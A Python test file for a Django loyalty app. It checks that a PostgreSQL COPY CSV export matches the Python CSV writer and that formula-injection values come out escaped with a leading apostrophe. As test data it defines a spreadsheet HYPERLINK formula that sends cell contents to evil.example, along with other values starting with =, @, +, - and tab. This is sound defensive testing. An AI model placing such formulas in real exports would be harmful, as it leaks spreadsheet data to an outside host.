"""The streamed CSV written by PostgreSQL (COPY ... TO STDOUT) reads the same as the Python writer's."""

import csv
import datetime as dt
import io

import pytest

from loyalty import services as loyalty
from loyalty.exports import copy_csv_lines, csv_lines
from loyalty.kernel import SYSTEM
from loyalty.models import Reward
from redemptions import resources
from redemptions import services as redemptions
from redemptions.models import Redemption

pytestmark = [pytest.mark.postgres, pytest.mark.django_db, pytest.mark.usefixtures("postgres_only")]

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_copy_export_reads_like_the_python_export(metric, support_user):
    plain = loyalty.enroll_member(external_id="M-1", email="", name='Zoë, "quoted"\nnext line', actor=SYSTEM)
    evil = loyalty.enroll_member(external_id=EVIL, email="=x@example.com", name="@evil", actor=SYSTEM)
    for m in (plain, evil):
        loyalty.credit_points(member=m, metric=metric, amount=500, reason="opening", actor=SYSTEM)
    reward = Reward.objects.create(external_id="+RW", name="Café -10 €", type="badge", metric=metric, points=100)
    redemptions.redeem_reward(member=plain, reward=reward, actor=support_user, channel="")
    redemptions.redeem_reward(member=evil, reward=reward, actor=support_user, channel="-pos")
    Redemption.objects.filter(member=evil).update(tracking_ref="\ttab", external_ref="\rcr")
    # Microseconds with a trailing zero, and none at all: isoformat writes .497680 and no fraction.
    at = dt.datetime(2026, 3, 1, 9, 30, 5, 497680, tzinfo=dt.UTC)
    Redemption.objects.filter(member=plain).update(created_at=at)
    Redemption.objects.filter(member=evil).update(created_at=at.replace(microsecond=0))

    queryset = Redemption.objects.order_by("id")
    header = [name for name, _ in resources.EXPORT_COLUMNS]
    lookups = [lookup for _, lookup in resources.EXPORT_COLUMNS]
    copied = b"".join(copy_csv_lines(queryset, header, lookups)).decode()
    written = "".join(csv_lines(resources.export_rows(queryset)))

    assert parse(copied) == parse(written)
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in parse(copied)[1:]}
    evil_row = next(r for r in rows.values() if r["member_email"] == "'=x@example.com")
    assert evil_row["member_external_id"] == "'" + EVIL and evil_row["channel"] == "'-pos"
    assert evil_row["tracking_ref"] == "'\ttab" and evil_row["external_ref"] == "'\rcr"
    assert evil_row["points_spent"] == "100" and "T" in evil_row["created_at"]
    plain_row = next(r for r in rows.values() if r["member_external_id"] == "M-1")
    assert plain_row["created_at"] == "2026-03-01T09:30:05.497680+00:00"
    assert evil_row["created_at"] == "2026-03-01T09:30:05+00:00"
